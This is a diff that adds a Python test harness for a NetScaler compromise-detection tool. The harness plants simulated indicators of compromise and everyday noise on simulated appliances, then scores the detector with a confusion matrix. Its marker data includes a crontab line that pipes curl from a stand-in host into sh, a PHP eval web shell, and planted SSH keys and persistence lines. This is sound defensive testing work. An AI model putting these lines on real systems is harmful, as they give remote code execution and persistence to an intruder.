@@ -1,0 +1,267 @@
+# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
+"""Generated appliances with the harmless markers of an attacker, and clean ones with the noise of a working day; the confusion matrix of the watch on them.
+
+    python -m tests.watch_fleet
+
+The markers are written from what was published about attacks and scanners; each group names its source. A marker has the names and words that were
+published, and does nothing.
+"""
+
+from __future__ import annotations
+
+import base64
+import random
+import sys
+import tempfile
+import time
+from collections import Counter
+from collections.abc import Callable, Iterator, Mapping
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.findings.finding import Examination
+from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.nitro.connection import Connection
+from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.watching.state import State
+from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.watching.watch import Watch
+
+from simulator import Simulator
+from simulator.server.python_api import ApplianceHandle
+from tests.engine.stage import Stage
+
+SEED, SIZE = 20261128, 320
+AT = "2026-11-28T00:00:00Z"
+BUILDS = ("12.1 55.18", "13.0 47.22", "13.0 92.19", "13.1 49.15", "14.1 47.48", "14.1 73.46")
+COMPROMISE, REVIEW, UNSEEABLE, NOTHING = "compromise", "review", "not seen by NITRO", "nothing found"
+MESSAGES = "/var/log/messages"
+VERIEXEC = (
+    "Sep 20 01:02:03 <kern.crit> ns kernel: MAC/veriexec: {} (file={} fsid=1 fileid=2 gen=1 uid=0 pid=3 ppid=1 gppid=0)"
+)
+NO_FINGERPRINT, MISMATCH = "no fingerprint", "fingerprint does not match loaded value"
+Plant = Callable[[ApplianceHandle], None]
+
+
+@dataclass(frozen=True)
+class Marker:
+    """A trace of an attacker.
+
+    :ivar level: the level at which it must be found; UNSEEABLE where NITRO does not show it
+    :ivar where: what the place of its finding has
+    """
+
+    name: str
+    level: str
+    where: str
+    plant: Plant
+
+
+def file(path: str, text: str = "x\n", **more: Any) -> Plant:
+    return lambda box: box.write_file(path, text, **more)
+
+
+def at(path: str, level: str, text: str = "x\n", **more: Any) -> Marker:
+    return Marker(path, level, path, file(path, text, **more))
+
+
+def line(text: str, path: str = MESSAGES) -> Plant:
+    return lambda box: box.log(path, text)
+
+
+def elf(path: str) -> Plant:
+    return lambda box: box.write_file(path, base64=base64.b64encode(b"\x7fELF\x02").decode())
+
+
+MARKERS = (
+    # ioc-scanner-CVE-2019-19781, nshunt
+    at("/var/cron/tabs/nobody", COMPROMISE, "0 0 1 1 * true\n"),
+    at("/netscaler/portal/templates/a1.xml", REVIEW),
+    at("/netscaler/portal/scripts/PersonalBookmak.pl", COMPROMISE),
+    at("/var/tmp/netscaler/portal/templates/a.xml.ttc2", REVIEW),
+    at("/var/vpn/bookmark/u.xml", COMPROMISE, "<x>template.new('x')</x>"),
+    at("/var/vpn/bookmark/pwnpzi1337.pl", COMPROMISE),
+    Marker("NOTROBIN", REVIEW, "/var/nstmp/.nscache", file("/var/nstmp/.nscache/httpd")),
+    Marker("miner", REVIEW, "/var/tmp/netscalerd", elf("/var/tmp/netscalerd")),
+    # citrix-ioc-scanner-cve-2023-3519, netscaler-ir-collector
+    at("/var/vpn/theme/.theme.php", COMPROMISE, "<?php\n"),
+    at("/var/vpn/themes/insight-new-min.js", REVIEW),
+    at("/var/vpn/themes/info.html", COMPROMISE, "<html><?php eval($_POST['x']); ?></html>\n"),
+    at("/var/vpn/x.php", COMPROMISE),
+    at("/var/netscaler/logon/LogonPoint/uiareas/linux/p.php", COMPROMISE),
+    at("/var/netscaler/logon/LogonPoint/custom/.slap.receiver", REVIEW),
+    at("/var/netscaler/logon/LogonPoint/strings.en.js", REVIEW),
+    at("/var/netscaler/logon/a.html", REVIEW),
+    # netscaler-ctx697096-checker
+    at("/var/netscaler/gui/vpn/scripts/linux/nsginstaller.deb", COMPROMISE, "#!/bin/sh\n"),
+    at("/var/netscaler/gui/vpn/images/f.ico", COMPROMISE, "#!/bin/sh\n"),
+    at("/netscaler/ns_gui/vpn/e.txt", REVIEW),
+    at("/netscaler/ns_gui/admin_ui/id009.php", COMPROMISE),
+    at("/netscaler/ns_gui/epa/scripts/mac/nx_verify.html", REVIEW),
+    at("/tmp/sh", REVIEW, "#!/bin/sh\n"),
+    at("/.x", REVIEW),
+    Marker("executable in a directory of crashes", REVIEW, "/var/core/1/nsd", elf("/var/core/1/nsd")),
+    at("/nsconfig/.slap", REVIEW),
+    at("/nsconfig/rc.netscaler", REVIEW, "nohup sh /var/tmp/x\n"),
+    at("/nsconfig/nsafter.sh", REVIEW, "true\n"),
+    at("/nsconfig/httpd.conf", REVIEW, "php_flag engine on\n"),
+    at("/nsconfig/ssh/authorized_keys", REVIEW, "ssh-ed25519 AAAA x\n"),
+    at("/root/.ssh/authorized_keys", REVIEW, "ssh-ed25519 AAAA x\n"),
+    at("/etc/crontab", REVIEW, "0 * * * * root curl http://192.0.2.66/x | sh\n"),
+    at("/nsconfig/crontab", REVIEW, "0 * * * * root true\n"),
+    at("/var/cron/tabs/root", REVIEW, "0 * * * * sh /var/tmp/x\n"),
+    # page BSV for enhanced security
+    Marker("unsigned file that was run", REVIEW, "/var/tmp/x", line(VERIEXEC.format(NO_FINGERPRINT, "/var/tmp/x"))),
+    Marker("changed executable", COMPROMISE, "/bin/sh", line(VERIEXEC.format(MISMATCH, "/bin/sh"))),
+    # Only a shell shows these.
+    Marker("setuid shell", UNSEEABLE, "permission bits", lambda box: box.write_file("/bin/sh", "x", mode="6555")),
+    Marker("process", UNSEEABLE, "processes", lambda box: box.processes([{"user": "nobody", "pid": 1351, "command": "/tmp/x"}])),
+)  # fmt: skip
+
+
+def theme_edit(box: ApplianceHandle) -> None:
+    """Thirty files of one burst (README of netscaler-ctx697096-checker)."""
+    for number in range(30):
+        text = "function show() { return String.fromCharCode(65); }\n"
+        box.write_file(
+            f"/var/netscaler/logon/LogonPoint/custom/strings.{number}.js", text, mtime="2026-11-20T03:00:00Z"
+        )
+
+
+def upgrade_files(box: ApplianceHandle) -> None:
+    for path in ("/var/nsinstall/installns_state", "/var/core/bounds", "/var/core/minfree", "/var/tmp/install.log"):
+        box.write_file(path, "1\n")
+    box.log(MESSAGES, "Jan 19 23:00:06 <kern.notice> ns kernel: pitboss: new process nsppe")
+
+
+def administrators(box: ApplianceHandle) -> None:
+    box.write_file("/var/vpn/bookmark/bm_prefix_dXNlcg==", "<bookmarks></bookmarks>\n")
+    box.write_file("/nsconfig/rc.netscaler", "nsapimgr_wr.sh -ys skip_systemaccess_policyeval=0\n")
+    box.write_file("/root/.ssh/authorized_keys", "ssh-ed25519 AAAA admin\n")
+    box.log(MESSAGES, VERIEXEC.format(NO_FINGERPRINT, "/var/tmp/backup of admin.sh"))
+
+
+def console(box: ApplianceHandle) -> None:
+    box.write_file("/tmp/log-2026-11-20.php", "<?php\n")
+    box.write_file("/var/tmp/session.txt", "1\n")
+
+
+def imitations(box: ApplianceHandle) -> None:
+    """A client wrote the words of the kernel into the name with which he logs on."""
+    text = VERIEXEC.format(MISMATCH, "/bin/sh")
+    box.log(MESSAGES, f"Sep 20 01:02:03 <auth.err> ns sshd[12]: Invalid user x kernel: {text} from 198.51.100.7")
+
+
+NOISE: tuple[Plant, ...] = (theme_edit, upgrade_files, administrators, console, imitations)
+
+
+@dataclass
+class Planned:
+    """One generated appliance."""
+
+    number: int
+    build: str
+    markers: tuple[Marker, ...]
+    noise: tuple[Plant, ...]
+
+
+def planned(size: int = SIZE, seed: int = SEED) -> Iterator[Planned]:
+    """Yield appliances: each third one is clean, each marker is planted at least once, each build and noise comes again and again."""
+    chance = random.Random(seed)
+    waiting = list(MARKERS)
+    for number in range(size):
+        count = 0 if number % 3 == 0 else chance.randint(1, 3)
+        chosen = tuple({one.where: one for one in [*waiting[:1], *chance.sample(MARKERS, count)][:count]}.values())
+        if count and waiting:
+            waiting = waiting[1:]
+        yield Planned(
+            number, BUILDS[number % len(BUILDS)], chosen, tuple(one for one in NOISE if chance.random() < 0.5)
+        )
+
+
+@dataclass
+class Outcomes:
+    """The confusion matrix, and what is wrong with it."""
+
+    matrix: Counter[tuple[str, str]] = field(default_factory=Counter)
+    wrong: list[str] = field(default_factory=list)
+    requests: list[int] = field(default_factory=list)
+    bytes: list[int] = field(default_factory=list)
+    seconds: list[float] = field(default_factory=list)
+
+    def add(self, one: Planned, examined: Examination) -> None:
+        texts = {level: [f.where for f in examined.findings if f.level == level] for level in (COMPROMISE, REVIEW)}
+        gaps = [str(gap) for gap in examined.not_seen if gap.is_gap]
+        for marker in one.markers:
+            found = next((level for level in texts if any(marker.where in text for text in texts[level])), NOTHING)
+            if marker.level == UNSEEABLE and any(marker.where in str(gap) for gap in examined.not_seen):
+                found = UNSEEABLE
+            self.matrix[marker.level, found] += 1
+            if found not in (
+                marker.level,
+                COMPROMISE if marker.level == REVIEW and len(one.markers) > 1 else marker.level,
+            ):
+                self.wrong.append(f"{one.number} ({one.build}): {marker.name} is {found}, not {marker.level}")
+        if not one.markers:
+            self.matrix["clean", next((level for level in texts if texts[level]), NOTHING)] += 1
+        if texts[COMPROMISE] and not any(marker.level == COMPROMISE for marker in one.markers):
+            self.wrong.append(f"{one.number} ({one.build}): compromise without a marker: {texts[COMPROMISE]}")
+        if gaps:
+            self.wrong.append(f"{one.number}: incomplete: {gaps}")
+
+    def lines(self) -> list[str]:
+        columns = (COMPROMISE, REVIEW, NOTHING, UNSEEABLE)
+        lines = [f"{'planted / found':<20}" + "".join(f"{name:>20}" for name in columns)]
+        lines.extend(
+            f"{row:<20}" + "".join(f"{self.matrix[row, name]:>20}" for name in columns)
+            for row in ("clean", COMPROMISE, REVIEW, UNSEEABLE)
+        )
+        return lines
+
+
+def look(
+    simulator: Simulator, directory: Path, host: str, accepted: State | None = None, **options: Any
+) -> tuple[State, Examination, int]:
+    """Return the state, the examination and the number of requests of one run."""
+    with Connection(Stage(simulator, directory, host).appliance) as connection:
+        state, examined = Watch(host, accepted, accepted, **options).look(connection, AT)
+    return state, examined, len(connection.exchanges)
+
+
+def play(stride: int = 1, size: int = SIZE) -> Outcomes:
+    """Watch one of so many of the generated appliances; the state of a clean one of each build is the accepted one."""
+    outcomes = Outcomes()
+    fleet = {
+        f"box{number}": {"build": build, "nodes": [f"127.0.{number + 1}.1:0"]} for number, build in enumerate(BUILDS)
+    }
+    with tempfile.TemporaryDirectory() as name, Simulator({"appliances": fleet}) as simulator:
+        directory = Path(name)
+        accepted: Mapping[str, State] = {host: look(simulator, directory, host)[0] for host in fleet}
+        for one in [*planned(size)][::stride]:
+            simulator.reset()
+            host = f"box{BUILDS.index(one.build)}"
+            for plant in (*one.noise, *(marker.plant for marker in one.markers)):
+                plant(simulator.appliance(host))
+            began = time.perf_counter()
+            _state, examined, requests = look(simulator, directory, host, accepted[host])
+            outcomes.seconds.append(time.perf_counter() - began)
+            outcomes.requests.append(requests)
+            outcomes.bytes.append(dict(examined.looked_at)["bytes read"])
+            outcomes.add(one, examined)
+    return outcomes
+
+
+def main() -> int:
+    """Print the matrix of all appliances.
+
+    :returns: the exit code: 1 where something is wrong
+    """
+    outcomes = play()
+    count = len(outcomes.requests)
+    print("\n".join([f"{count} appliances", *outcomes.lines(), *outcomes.wrong]))
+    print(
+        f"of one appliance at most {max(outcomes.requests)} requests and {max(outcomes.bytes)} bytes; {sum(outcomes.seconds) / count:.2f} s"
+    )
+    return 1 if outcomes.wrong else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
